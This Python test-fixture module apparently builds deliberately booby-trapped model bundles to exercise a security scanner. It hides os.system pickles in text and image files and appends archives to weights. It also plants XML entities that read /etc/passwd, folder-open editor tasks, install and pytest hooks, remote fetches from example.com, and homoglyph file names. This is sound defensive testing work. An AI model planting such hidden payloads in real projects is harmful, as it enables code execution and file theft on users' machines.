"""Code that hides where an audit by names and suffixes might not look, each in the harmless bundle."""

from __future__ import annotations

import io
import json
import pickle
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch

from .attacks import (
    LOGGING,
    Payload,
    config,
    link,
    logging_conf,
    metadata,
    overlay,
    run,
    saved,
    text,
    torchscript_as_weights,
)

__all__ = ["HIDDEN"]

Attack = Callable[[Path], None]
OLDEST = pickle.dumps(Payload(), 0)
"""A pickle in plain letters, which NumPy and others load whatever the file is called."""
LISTED = "large_files:\n- path: {}\n  url: {}\n  hash_val: '{}'\n  hash_type: {}\n"


def several(*attacks: Attack) -> Attack:
    def put(folder: Path) -> None:
        for attack in attacks:
            attack(folder)

    return put


def renamed(attack: Attack, source: str, target: str) -> Attack:
    def put(folder: Path) -> None:
        attack(folder)
        (folder / target).parent.mkdir(exist_ok=True)
        (folder / source).rename(folder / target)

    return put


def archive(*members: tuple[str, bytes], comment: bytes = b"") -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as opened:
        for name, content in members:
            opened.writestr(name, content)
        opened.comment = comment
    return file.getvalue()


def torch_file(*more: tuple[str, bytes], comment: bytes = b"") -> Attack:
    """A file of torch.save with more in it."""

    def put(folder: Path) -> None:
        with zipfile.ZipFile(folder / "models" / "model.pt", "a") as opened:
            for name, content in more:
                opened.writestr(name, content)
            opened.comment = comment

    return put


def around(name: str, before: bytes = b"", after: bytes = b"") -> Attack:
    """More bytes before and behind a file of the bundle."""

    def put(folder: Path) -> None:
        (folder / name).write_bytes(before + (folder / name).read_bytes() + after)

    return put


def between_members(folder: Path) -> None:
    """Bytes in an archive that belong to no member."""
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w") as opened:
        opened.writestr("archive/data.pkl", pickle.dumps({}, 2))
        whole.write(b"hidden" * 20)
        opened.start_dir = whole.tell()
        opened.writestr("archive/version", b"3")
    (folder / "models" / "model.pt").write_bytes(whole.getvalue())


def safetensors(header: str, data: bytes) -> Attack:
    return text("models/model.safetensors", struct.pack("<Q", len(header)) + header.encode() + data)


def listed(*values: str) -> Attack:
    """A file that is fetched later: path, address, digest and its kind."""
    return text("large_files.yml", LISTED.format(*values))


def tensor(begin: int, end: int) -> str:
    return json.dumps({"dtype": "U8", "shape": [end - begin], "data_offsets": [begin, end]})


def onnx(*pairs: bytes) -> Attack:
    """A file of ONNX with a tensor whose data lies elsewhere."""
    external = b"".join(b"\x6a" + bytes([len(one)]) + one for one in pairs)
    initializer = b"\x2a" + bytes([len(external)]) + external
    graph = b"\x3a" + bytes([len(initializer)]) + initializer
    return text("models/model.onnx", b"\x08\x08" + graph)


def field(number: int, value: bytes) -> bytes:
    return bytes([number << 3 | 2, len(value)]) + value


LOCATION, ELSEWHERE = b"location", b"/etc/passwd"
HIDDEN: dict[str, Attack] = {
    # pickles under other names
    "oldest pickle called text": text("docs/notes.txt", OLDEST),
    "oldest pickle called README": text("docs/README", OLDEST),
    "oldest pickle called a table": text("sample_data/cases.csv", OLDEST),
    "oldest pickle that is YAML too": text("configs/more.yaml", b"cos\nsystem\n(S'id'\ntR."),
    "pickle in a picture": text("docs/figure.gif", b"GIF89a\x01\x00\x01" + OLDEST),
    "pickle in the preamble of DICOM": text("sample_data/x.dcm", OLDEST.ljust(128, b"\0") + b"DICM"),
    "pickle behind numbers": text("docs/notes.txt", b"I1\n0" * 2000 + OLDEST),
    "pickle without end": text("docs/notes.txt", b"N" * 30_000),
    "pickle with marks": text("docs/notes.txt", b"(0((I1\nt1N0(" + b"ios\nsystem\n."),
    "pickle in the numbers of a network": several(text("models/model.xml", "<net/>"), text("models/model.bin", OLDEST)),
    "array of objects called a picture": text("docs/figure.png", saved(object)),
    "array of objects in an archive without a suffix": text(
        "models/a.npz", archive(("a.npy", saved("f4")), ("b.bin", saved(object)))
    ),
    "old torch file and more": lambda folder: (
        torch.save({}, folder / "models" / "model.pt", _use_new_zipfile_serialization=False),
        around("models/model.pt", after=archive(("__main__.py", b"import os\n")))(folder),
    )[0],
    # archives in or behind other files
    "archive behind a picture": text("docs/figure.png", b"\x89PNG\r\n" + archive(("__main__.py", b"import os\n"))),
    "archive behind text": text("docs/notes.md", b"# Notes\n" + archive(("__main__.py", b"import os\n"))),
    "archive behind a config": text("configs/more.conf", LOGGING.encode() + b"#" + archive(("__main__.py", b"\n"))),
    "archive behind weights": around("models/model.pt", after=archive(("archive/data.pkl", pickle.dumps({}, 2)))),
    "archive behind safetensors": several(
        safetensors(f'{{"a": {tensor(0, 1)}}}', b"\0"),
        around("models/model.safetensors", after=archive(("__main__.py", b"\n"))),
    ),
    "bytes before weights": around("models/model.pt", before=b"PK\x03\x04" + b"hidden" * 20),
    "comment of weights": torch_file(comment=b"import os"),
    "bytes between parts of weights": between_members,
    "code beside weights": torch_file(("archive/net.PY", b"import os\n")),
    "library beside weights": torch_file(("archive/libnet.so.1", b"\x7fELF")),
    "pickle in other letters": torch_file(("other/DATA.PKL", OLDEST)),
    "pickle among the numbers": torch_file(("archive/data/data.txt", OLDEST)),
    "TorchScript called a picture": renamed(torchscript_as_weights, "models/model.pt", "docs/figure.png"),
    "TorchScript called a config": renamed(torchscript_as_weights, "models/model.pt", "configs/more.json"),
    "TorchScript in an archive": lambda folder: (
        torchscript_as_weights(folder),
        text("models/model.zip", archive(("model.pt", (folder / "models" / "model.pt").read_bytes())))(folder),
        (folder / "models" / "model.pt").unlink(),
    )[0],
    # safetensors and ONNX
    "safetensors with a hole": safetensors(f'{{"a": {tensor(0, 1)}, "b": {tensor(9, 10)}}}', b"\0MZhidden\0\0"),
    "safetensors that overlap": safetensors(f'{{"a": {tensor(0, 4)}, "b": {tensor(2, 6)}}}', b"\0" * 6),
    "safetensors with a name twice": safetensors(f'{{"a": {tensor(0, 1)}, "a": {tensor(0, 1)}}}', b"\0"),
    "safetensors with an offset before the start": safetensors(f'{{"a": {tensor(-4, 1)}}}', b"\0"),
    "safetensors with code as metadata": safetensors(
        f'{{"__metadata__": {{"x": {{"_target_": "os.system"}}}}, "a": {tensor(0, 1)}}}', b"\0"
    ),
    "ONNX with data elsewhere": onnx(field(1, LOCATION) + field(2, ELSEWHERE)),
    "ONNX, value first": onnx(field(2, ELSEWHERE) + field(1, LOCATION)),
    "ONNX, a length of two bytes": onnx(b"\x0a\x88\x00" + LOCATION + field(2, ELSEWHERE)),
    "ONNX, a long path": onnx(field(1, LOCATION) + b"\x12\x8b\x00" + ELSEWHERE),
    "ONNX behind much else": text("models/model.onnx", b"\0" * (65 << 20) + field(1, LOCATION) + field(2, ELSEWHERE)),
    # what comes later
    "code that is fetched later": listed("scripts/net.py", "https://x/y", "0" * 64, "sha256"),
    "config that is fetched later": listed("configs/train.json", "https://x/y", "0" * 64, "sha256"),
    "weights that are fetched later": listed("models/other.pt", "https://x/y", "0" * 64, "sha256"),
    "other weights that are fetched later": listed("models/model.pt", "https://x/y", "0" * 64, "sha256"),
    "weights with a digest that can be forged": listed("models/model.pt", "https://x/y", "0" * 32, "md5"),
    "file of this machine": listed("models/model.pt", "file:///etc/x", "0" * 64, "sha256"),
    "large files by another name": text(
        "configs/large_files.json", json.dumps({"large_files": [{"path": "../x.pt", "url": "https://x/y"}]})
    ),
    "log that is code": logging_conf(
        "class=StreamHandler\nargs=(sys.stdout,)", "class=FileHandler\nargs=('sitecustomize.py', 'w')"
    ),
    "log over a config": logging_conf(
        "class=StreamHandler\nargs=(sys.stdout,)", "class=FileHandler\nargs=('configs/inference.json', 'w')"
    ),
    "log of a name that is put together": logging_conf(
        "class=StreamHandler\nargs=(sys.stdout,)", "class=FileHandler\nkwargs={'filename': 'net.py'}\nargs=()"
    ),
    "output that is code": config(output="sitecustomize.py"),
    "output that is code, put together": run("$@bundle_root + '/scripts/net.py'"),
    "ending of an output": config(more={"_target_": "SaveImaged", "keys": "pred", "output_ext": ".py"}),
    # configs of other programs
    "task of an editor": text(".vscode/tasks.json", '{"tasks": [{"command": "id", "runOn": "folderOpen"}]}'),
    "container of an editor": text(".devcontainer/devcontainer.json", '{"postCreateCommand": "id"}'),
    "workflow": text(".github/workflows/x.yml", "jobs: {x: {steps: [{run: id}]}}\n"),
    "hooks": text(".pre-commit-config.yaml", "repos: [{repo: local, hooks: [{entry: id}]}]\n"),
    "package of another language": text("package.json", '{"scripts": {"postinstall": "id"}}'),
    "compose file": text("docker-compose.yml", "services: {x: {command: id}}\n"),
    "environment": text("environment.yml", "dependencies: [{pip: ['git+https://example.com/x']}]\n"),
    "modules of git": text(".gitmodules", '[submodule "x"]\n\turl = https://example.com/x\n'),
    "setup of a package": text("setup.cfg", "[metadata]\nname=x\n[options]\nsetup_requires=evil\n"),
    "settings of a test runner": text("pytest.ini", "[pytest]\naddopts = -p evil\n"),
    # words and places
    "address in pieces": run("$'https:' + '//example.com'"),
    "climbing in pieces": run("$@bundle_root + '/' + ('.' + './secret')"),
    "name of code in pieces": run("$'sitecustomize.p' + f'{\"y\"}'"),
    "shape that fills memory": metadata(network_data_format={"inputs": {"image": {"spatial_shape": ["9**9**9**9"]}}}),
    "shape of a huge number": metadata(network_data_format={"inputs": {"image": {"spatial_shape": ["9999999*n"]}}}),
    "shape that is none": metadata(network_data_format={"inputs": {"image": {"spatial_shape": ["((n"]}}}),
    "option behind a version": metadata(required_packages_version={"x": "1.0 --config-settings=y=z"}),
    "option for a version": metadata(required_packages_version={"x": "-r"}),
    "data of a picture elsewhere": text("sample_data/x.mhd", "NDims = 2\nElementDataFile = /etc/passwd\n"),
    "data of a picture above": text("sample_data/x.nrrd", "NRRD0004\ntype: uchar\ndata file: ../../x.raw\n"),
    "comment that turns around": config(_desc_="harmless \u202e txet"),
    "path in the metadata": several(metadata(place="/home/somebody/.ssh"), config(output_dir="@_meta_#place")),
    "address in the metadata, in an expression": several(
        metadata(places={"weights": "https://example.com/x.pt"}), run("$@_meta_#places['weights']")
    ),
    "path in the metadata by a macro": several(
        metadata(place="../../secret"), config(output_dir="%configs/metadata.json#place")
    ),
    "whole metadata": several(metadata(place="../../secret"), run("$@_meta_['place']")),
    "config in the metadata": metadata(more={"_target_": "os.system", "command": "id"}),
    "config as a text in the metadata": several(
        metadata(more='{"_target_": "os.system"}'), run("$monai.bundle.ConfigParser(json.loads(@_meta_#more))")
    ),
    "folder of git's in a path": config(images=[".git/x.npy"]),
    "target of a macro": several(overlay({"x": "os.system"}), config(more={"_target_": "%configs/more.json#x"})),
    "target by pieces": config(a="os", more={"_target_": "%a.system", "command": "id"}),
    "target in a key of YAML": text("configs/more.yml", "? _target_\n: os.system\n"),
    "tag of its own": text("configs/more.yml", "!x {_target_: Compose}\n"),
    "two documents": text("configs/more.yml", "a: 1\n---\n_target_: os.system\n"),
    "hidden beginning of a file": text("configs/more.json", b"\xef\xbb\xbf" + b'{"x": 1}'),
    "letters that look like scripts": text("scr\u0456pts/net.py", "import os\n"),
    "letters that look like a config's": text("configs/tr\u0430in.json", "{}"),
    "config without a suffix": text("configs/train", '{"_target_": "os.system"}'),
    "suffix in other letters": text("configs/more.js\u043en", '{"_target_": "os.system"}'),
    "code that is data": text("scripts/net.PY", "import os\n"),
    "code of Windows": text("scripts/net.pyw", "import os\n"),
    "code that starts with the interpreter": text("sitecustomize.py", "import os\n"),
    "code of tests": text("conftest.py", "import os\n"),
    "code in a folder of caches": text("scripts/__pycache__/net.cpython-311.pyc", b"\0" * 32),
    "scripts that are a link": link("scripts/__init__.py", "../docs", "docs/__init__.py"),
    "page called a network": several(
        text("docs/page.xml", '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>')
    ),
    "network with a style of its own": text(
        "models/model.xml", '<?xml version="1.0"?><?xml-stylesheet href="https://example.com/x.xsl"?><net/>'
    ),
    "network that reads a file": text(
        "models/model.xml", '<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]><net>&x;</net>'
    ),
    "drawing in a network": text("docs/x.xml", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "network of another encoding": text("models/model.xml", '<net x="1"/>'.encode("utf-16")),
}
"""By where it hides, how the harmless bundle becomes it."""
